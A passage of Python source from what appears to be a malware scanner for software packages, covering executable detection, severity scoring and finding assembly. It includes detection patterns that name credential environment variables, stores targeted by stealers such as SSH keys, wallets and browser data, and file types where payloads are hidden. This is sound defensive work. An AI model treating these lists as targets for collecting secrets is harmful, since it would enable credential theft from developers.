        found.append(("malicious-credential-access", f"shell command sends {secret} over the network"))
    elif secret and SHELL_READS.search(command):
        found.append(("malicious-credential-access", f"shell command reads {secret}"))
    return found


# --------------------------------------------------------------------------- binaries

_ELF = b"\x7fELF"
_MACHO = (b"\xfe\xed\xfa\xce", b"\xfe\xed\xfa\xcf", b"\xce\xfa\xed\xfe", b"\xcf\xfa\xed\xfe")
SHARED_LIBRARY_SUFFIXES: Final = (".so", ".pyd", ".dylib", ".node", ".dll")


def binary_kind(path: str, head: bytes) -> str | None:
    """ "ELF executable", "PE executable"… for native executables; None otherwise."""
    if head.startswith(_ELF) and len(head) >= 18:
        elf_type = int.from_bytes(head[16:18], "little" if head[5] == 1 else "big")
        if elf_type == 2 or (elf_type == 3 and not _is_library_name(path)):
            return "ELF executable"
        return None
    if head.startswith(b"MZ") and not _is_library_name(path):
        return "PE executable"
    if head[:4] in _MACHO and not _is_library_name(path):
        return "Mach-O executable"
    return None


def _is_library_name(path: str) -> bool:
    name = path.rsplit("/", 1)[-1].lower()
    return name.endswith(SHARED_LIBRARY_SUFFIXES) or ".so." in name


# --------------------------------------------------------------------------- scoring


def _raise(severity: Severity, steps: int = 1) -> Severity:
    order = [Severity.INFO, Severity.LOW, Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL]
    index = order.index(severity) if severity in order else 0
    return order[max(0, min(len(order) - 1, index + steps))]


def _at_least(severity: Severity, floor: Severity) -> Severity:
    return severity if severity.at_least(floor) else floor


@dataclass(slots=True)
class _FileView:
    signals: list[Signal] = field(default_factory=list)

    def rules(self, scope: str | None = None) -> set[str]:
        return {s.rule_id for s in self.signals if scope is None or s.scope == scope}


#: Environment variables whose value is a credential: sent anywhere from an install hook, a theft.
CREDENTIAL_ENV_NAME: Final = re.compile(
    r"(?:^|_)(?:TOKEN|SECRET|PASSWORD|PASSWD|PASS|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIALS?|AUTH)(?:$|_)"
    r"|^(?:NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|PYPI_TOKEN"
    r"|TWINE_PASSWORD|CI_JOB_TOKEN|DOCKER_PASSWORD|SLACK_TOKEN)$",
    re.IGNORECASE,
)

#: Files that are data, not code: a payload read out of one and executed was hidden there on purpose
#: (code appended to an image, a font, a text file).
ASSET_SUFFIXES: Final = (
    ".png", ".jpg", ".jpeg", ".gif", ".bmp", ".ico", ".svg", ".webp", ".tif", ".tiff", ".wav", ".mp3", ".mp4",
    ".ogg", ".ttf", ".otf", ".woff", ".woff2", ".eot", ".pdf", ".txt", ".md", ".csv", ".dat", ".bin", ".log",
    ".css", ".html", ".xml", ".json",
)  # fmt: skip


def asset_label(path: str | None) -> str | None:
    """``"a non-code file ('logo.png')"`` when ``path`` names a data file."""
    if path and len(path) < 300 and path.lower().endswith(ASSET_SUFFIXES):
        return f"a non-code file ({path!r})"
    return None


#: Commands users type every day, and the packages that legitimately install them.
COMMON_COMMANDS: Final[Mapping[str, frozenset[str]]] = {
    command: frozenset(owners)
    for command, owners in (
        ("aws", ("awscli", "aws-cli", "awscliv2")), ("pip", ("pip",)), ("pip3", ("pip",)), ("python", ()),
        ("python3", ()), ("git", ("git",)), ("npm", ("npm",)), ("npx", ("npm", "npx")), ("node", ("node",)),
        ("ssh", ()), ("scp", ()), ("sudo", ()), ("curl", ("curl",)), ("wget", ("wget",)), ("ls", ()),
        ("cat", ()), ("docker", ("docker-cli",)), ("kubectl", ("kubectl",)), ("gcloud", ("google-cloud-sdk",)),
        ("az", ("azure-cli",)), ("terraform", ("terraform",)), ("gh", ("gh",)),
        ("yarn", ("yarn", "corepack", "@yarnpkg/cli-dist")), ("pnpm", ("pnpm", "corepack", "@pnpm/exe")),
        ("bash", ()), ("sh", ()), ("java", ()), ("go", ()), ("make", ()), ("gpg", ()), ("openssl", ()),
    )
}  # fmt: skip


def shadowed_command(command: str, package_name: str) -> bool:
    """Whether a package named ``package_name`` installing ``command`` takes over a common tool."""
    owners = COMMON_COMMANDS.get(command.strip().lower())
    if owners is None:
        return False
    name = package_name.lower()
    return name != command.lower() and name not in owners


#: Stores that only stealers read: naming one next to network code stays suspicious even at module level.
STEALER_TARGETS: Final = (
    "SSH keys", "AWS credentials", "browser", "crypto wallet", "Discord", "Telegram", "cloud instance",
    "Roblox", "GitHub CLI",
)  # fmt: skip


def _stealer_target(why: str) -> bool:
    return any(target in why for target in STEALER_TARGETS)


def signal_severity(signal: Signal, same_file: _FileView) -> tuple[Severity, list[str]]:
    """Severity of one signal judged with everything else seen in its file."""
    rule = RULES[signal.rule_id]
    reasons: list[str] = []
    if signal.severity is not None:
        severity = signal.severity
    elif rule.kind is Kind.CAPABILITY:
        severity = CAPABILITY_SEVERITY[signal.context] if rule.base.rank <= Severity.LOW.rank else rule.base
        if signal.rule_id == "capability-install-hook":
            severity = Severity.LOW
    else:
        severity = rule.base
    in_scope = same_file.rules(signal.scope)
    in_file = same_file.rules()
    egress = {"capability-network", "malicious-exfil-endpoint"}
    if signal.rule_id in {"malicious-credential-access", "malicious-env-exfiltration"}:
        if signal.flow or "shell command sends" in signal.why:
            severity = Severity.CRITICAL
            reasons.append(f"data flow: {signal.flow}")
        elif in_scope & egress and not (
            signal.scope == "<module>" and signal.why.startswith("names ") and not _stealer_target(signal.why)
        ):
            severity = _at_least(severity, Severity.HIGH)
            reasons.append("read and network send in the same function")
        elif in_scope & egress:
            # a bare mention at module level of a bundle (an ignore list naming .npmrc) is no read
            severity = _at_least(severity, Severity.MEDIUM)
            reasons.append("named at module level of a file that also uses the network")
        elif in_file & egress:
            severity = _at_least(severity, Severity.MEDIUM)
            reasons.append("network access in the same file")
    if (
        signal.rule_id == "malicious-credential-access"
        and signal.context is Context.INSTALL
        and _stealer_target(signal.why)
        and not signal.why.startswith("names ")
    ):
        # an install hook has no reason to read SSH keys, wallets or browser stores, sent or not
        severity = _at_least(severity, Severity.HIGH)
        reasons.append("reads a secret store at install time")
    if signal.rule_id == "malicious-exfil-endpoint" and in_file & {
        "malicious-credential-access",
        "malicious-env-exfiltration",
    }:
        severity = Severity.CRITICAL
        reasons.append("the same file collects secrets")
    if signal.rule_id == "malicious-obfuscation" and in_file & {
        "capability-dynamic-exec",
        "malicious-decode-exec",
        "capability-subprocess",
        "capability-network",
    }:
        severity = _at_least(severity, Severity.HIGH)
        reasons.append("obfuscated code that also executes, spawns or connects")
    if signal.rule_id == "malicious-silent-process" and in_file & {"capability-network", "malicious-download-exec"}:
        severity = _at_least(severity, Severity.HIGH)
        reasons.append("hidden process next to network access")
    if (
        rule.kind is Kind.THREAT
        and signal.context in (Context.INSTALL, Context.IMPORT)
        and severity.at_least(Severity.MEDIUM)
    ):
        severity = _raise(severity)
        reasons.append(f"runs at {signal.context.value} time, before any review")
    if signal.context is Context.TEST:
        floor = Severity.HIGH if severity is Severity.CRITICAL else Severity.INFO
        severity = _at_least(_raise(severity, -1), floor)
        reasons.append("in a test/doc file (weighed down, not skipped)")
    return severity, reasons


def score(signals: Iterable[Signal], package: Package | None = None) -> list[Finding]:
    """Judge signals into findings: one per rule and file, at the worst signal's severity."""
    by_file: dict[str, _FileView] = defaultdict(_FileView)
    for signal in signals:
        if SYSTEM_WRITE_WHY in signal.why and signal.context is not Context.INSTALL:
            continue  # a setup script the user runs on purpose (playwright's browser installers add apt sources)
        by_file[signal.path].signals.append(signal)
    findings: list[Finding] = []
    capability_files: dict[str, list[tuple[Signal, Severity]]] = defaultdict(list)
    for path in sorted(by_file):
        view = by_file[path]
        grouped: dict[str, list[tuple[Signal, Severity, list[str]]]] = defaultdict(list)
        for signal in view.signals:
            severity, reasons = signal_severity(signal, view)
            grouped[signal.rule_id].append((signal, severity, reasons))
        for rule_id, items in grouped.items():
            rule = RULES[rule_id]
            items.sort(key=lambda item: (-item[1].rank, item[0].flow is None, item[0].line))
            worst_signal, worst, reasons = items[0]
            if (
                rule.kind is Kind.CAPABILITY
                and worst.rank <= Severity.LOW.rank
                and rule_id != "capability-install-hook"
            ):
                capability_files[rule_id].append((worst_signal, worst))
                continue
            findings.append(_finding(rule, worst_signal, worst, reasons, items[1:], package))
    for rule_id, entries in capability_files.items():
        # Capabilities alone are context, not alarms: one summary per package.
        rule = RULES[rule_id]
        entries.sort(key=lambda entry: (-entry[1].rank, entry[0].path, entry[0].line))
        first, severity = entries[0]
        others = [f"also in {s.path}:{s.line}" for s, _ in entries[1:6]]
        findings.append(_finding(rule, first, severity, [], [], package, extra=others, files=len(entries)))
    findings.sort(key=lambda f: (-f.severity.rank, f.rule_id, str(f.location)))
    return findings


def _finding(
    rule: HeuristicRule,
    signal: Signal,
    severity: Severity,
    reasons: list[str],
    more: list[tuple[Signal, Severity, list[str]]],
    package: Package | None,
    *,
    extra: list[str] | None = None,
    files: int = 1,
) -> Finding:
    evidence = [f"{signal.path}:{signal.line}: {signal.snippet}", f"why: {signal.why}"]
    if signal.flow:
        evidence.append(f"flow: {signal.flow}")
    evidence.extend(f"judged: {reason}" for reason in reasons if not reason.startswith("data flow"))
    seen_lines = {signal.line}
    for other, _, _ in more:
        if other.line not in seen_lines and len(seen_lines) <= 4:
            seen_lines.add(other.line)
            evidence.append(f"also at line {other.line}: {other.snippet}")
    evidence.extend(extra or [])
    title = rule.summary
    if files > 1:
        title += f" ({files} files)"
    return Finding(
        rule_id=rule.id,
        severity=severity,
        title=title,
        package=package,
        location=Location(path=signal.path, line=signal.line),
        evidence=tuple(evidence),
        remediation=rule.remediation,
        description=rule.rationale,
        tags=frozenset({rule.kind.value, f"context:{signal.context.value}"}),
    )


def snippet_of(lines: list[str], line: int, limit: int = 160) -> str:
    """The stripped source line, cut to ``limit`` characters."""
    if 1 <= line <= len(lines):
        text = lines[line - 1].strip()
        return text if len(text) <= limit else text[: limit - 1] + "…"
    return ""


def egress_signal(taint: str) -> tuple[str, str, Severity | None]:
    """(rule id, why, severity override) for tainted data sent over the network.

    Shared by the Python and JavaScript analyzers so both languages score the
    same flow the same way: host identity alone is medium (telemetry sends
    hostnames), the whole environment or a credential is a threat.
    """
    if taint.startswith("host identity"):
        return "malicious-env-exfiltration", f"sends {taint} over the network", Severity.MEDIUM
    if taint.startswith("the whole environment"):
        return "malicious-env-exfiltration", "sends the environment over the network", None
    return "malicious-credential-access", f"sends {taint} over the network", None
